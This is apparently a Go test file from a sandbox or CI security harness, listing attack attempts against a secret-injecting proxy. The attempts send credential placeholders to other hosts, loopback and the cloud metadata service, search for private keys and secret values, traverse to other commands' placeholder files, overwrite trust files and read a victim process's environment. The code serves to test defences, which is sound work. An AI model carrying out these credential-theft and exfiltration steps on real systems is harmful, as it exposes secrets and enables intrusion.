package attempts

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// placeholderAttempts attack commands' use of secrets: placeholders, proxy, and the run's
// certificate.
func placeholderAttempts() []Attempt {
	return withSecrets([]Attempt{
		{Name: "take a placeholder to another host", Do: func(w World) error { return tunnelTo("other.siege.example:443", w.placeholder()) }},
		{Name: "take a placeholder to another port of its host", Do: func(w World) error { return tunnelTo(w.Bound+":22", w.placeholder()) }},
		{Name: "take a placeholder to the machine's loopback", Do: func(w World) error { return tunnelTo(fmt.Sprintf("127.0.0.1:%d", w.TCP), w.placeholder()) }},
		{Name: "take a placeholder to the metadata service", Do: func(w World) error { return tunnelTo("169.254.169.254:80", w.placeholder()) }},
		{Name: "send a placeholder in the clear", Do: func(w World) error {
			return letThrough("GET http://" + w.Bound + "/ HTTP/1.1\r\nHost: " + w.Bound + "\r\nAuthorization: Bearer " + w.placeholder() + "\r\n\r\n")
		}},
		{Name: "send a placeholder in the clear by another name of the port", Do: func(w World) error {
			return letThrough("GET http://" + w.Bound + ":443/ HTTP/1.1\r\nHost: " + w.Bound + "\r\nAuthorization: Bearer " + w.placeholder() + "\r\n\r\n")
		}},
		{Name: "be vouched for as another host", Do: func(w World) error { return handshake(w, "other.siege.example") }},
		{Name: "find the key of the run's authority", Do: func(w World) error { return findIn(w.kit(), "PRIVATE KEY") }},
		{Name: "find the value of a secret beside its placeholder", Do: func(w World) error { return findIn(w.kit(), Secret) }},
		{Name: "read the placeholders of other commands", Do: func(w World) error {
			return openFor(filepath.Join(w.kit(), "../../placeholders.json"), os.O_RDONLY)
		}},
		{Name: "change whom commands trust", Do: func(w World) error { return write(os.Getenv("SSL_CERT_FILE")) }},
		{Name: "add to what commands use secrets by", Do: func(w World) error { return create(filepath.Join(w.kit(), "planted")) }},
		{Name: "change a file with placeholders", Do: func(w World) error { return write(w.home(".m2/settings.xml")) }},
		{Name: "take away a file with placeholders", Do: func(w World) error { return os.Remove(w.home(".m2/settings.xml")) }},
		{Name: "find the value of a secret in agent-ci's environment", Do: func(w World) error { return readSecret(of(w.Victim, "environ")) }},
	})
}

func withSecrets(all []Attempt) []Attempt {
	for i := range all {
		all[i].secrets, all[i].Unproven = true, true
	}
	return all
}

func (w World) placeholder() string { return os.Getenv(w.Placeholder) }

// kit returns the folder for using secrets.
func (w World) kit() string { return filepath.Dir(os.Getenv("SSL_CERT_FILE")) }

// ask sends a request to the proxy, and gives the first line of the answer.
func ask(request string) (net.Conn, int, error) {
	proxy, err := url.Parse(os.Getenv("HTTPS_PROXY"))
	if err != nil {
		return nil, 0, err
	}
	const wait = 10 * time.Minute
	conn, err := net.DialTimeout("tcp", proxy.Host, wait)
	if err != nil {
		return nil, 0, err
	}
	_ = conn.SetDeadline(time.Now().Add(wait))
	if _, err := conn.Write([]byte(request)); err != nil {
		return conn, 0, err
	}
	answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return conn, 0, err
	}
	return conn, answer.StatusCode, nil
}

// letThrough succeeds if the proxy does not refuse a request.
func letThrough(request string) error {
	conn, status, err := ask(request)
	if conn != nil {
		defer conn.Close()
	}
	if err == nil && status/100 == 4 {
		err = fmt.Errorf("it is refused with %d", status)
	}
	return err
}

func tunnelTo(address, placeholder string) error {
	return letThrough("CONNECT " + address + " HTTP/1.1\r\nHost: " + address + "\r\nAuthorization: Bearer " + placeholder + "\r\n\r\n")
}

// handshake succeeds if the proxy has a certificate for a name in the tunnel of another host.
func handshake(w World, name string) error {
	address := w.Bound + ":443"
	conn, status, err := ask("CONNECT " + address + " HTTP/1.1\r\nHost: " + address + "\r\n\r\n")
	if conn != nil {
		defer conn.Close()
	}
	if err != nil || status != http.StatusOK {
		return errors.Join(err, fmt.Errorf("the tunnel was answered with %d", status))
	}
	roots := x509.NewCertPool()
	bundle, err := os.ReadFile(os.Getenv("SSL_CERT_FILE"))
	if err != nil {
		return err
	}
	roots.AppendCertsFromPEM(bundle)
	return tls.Client(conn, &tls.Config{RootCAs: roots, ServerName: name, MinVersion: tls.VersionTLS12}).Handshake()
}

// findIn succeeds if a file below a folder contains a text.
func findIn(folder, text string) error {
	found := ErrNothing
	err := filepath.WalkDir(folder, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() {
			return err
		}
		if raw, err := os.ReadFile(path); err == nil && strings.Contains(string(raw), text) {
			found = nil
		}
		return nil
	})
	return errors.Join(found, err)
}
